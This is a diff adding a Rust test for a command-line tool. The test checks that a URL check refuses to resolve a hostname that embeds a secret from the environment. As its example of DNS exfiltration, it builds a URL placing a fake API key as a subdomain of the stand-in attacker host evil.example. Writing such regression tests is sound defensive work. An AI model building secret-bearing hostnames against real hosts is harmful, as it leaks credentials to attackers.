@@ -300,3 +300,40 @@ fn fetch_output_never_shows_a_secret_from_the_environment() {
         );
     }
 }
+
+// round8 #2: `ploy check url https://<key>.evil.example/` resolved the name
+// and so sent a known secret to the resolver. The door checks the address
+// first; with a hosts file a lookup would be recorded, so the refusal is
+// shown to come before any resolution.
+// proves: BEYOND-6
+#[test]
+fn check_url_never_resolves_a_name_that_carries_a_known_secret() {
+    const KEY: &str = "sk-live-abcdef0123456789XYZ";
+    let dir = TempDir::new("url-secret");
+    let hosts = dir.path().join("hosts");
+    std::fs::write(
+        &hosts,
+        format!("93.184.215.10 {}.evil.example\n", KEY.to_lowercase()),
+    )
+    .unwrap();
+    let hosts = hosts.to_str().unwrap();
+    let url = format!("https://{KEY}.evil.example/");
+    for args in [
+        vec!["check", "url", &url, "--hosts", hosts],
+        vec!["check", "url", &url, "--no-resolve"],
+        vec!["check", "url", &url, "--hosts", hosts, "--json"],
+    ] {
+        let out = ploy_env(&args, &[("MY_API_KEY", KEY)]);
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
+        let text = format!("{}{}", stdout(&out), stderr(&out));
+        assert!(text.contains("BEYOND-6"), "{args:?}: {text}");
+        assert!(
+            !text.contains(KEY) && !text.contains(&KEY.to_lowercase()),
+            "{text}"
+        );
+        assert!(!text.contains("93.184.215.10"), "resolved: {text}");
+    }
+    // Twin: without the key in the environment the same name is checked.
+    let out = ploy(&["check", "url", &url, "--hosts", hosts]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+}
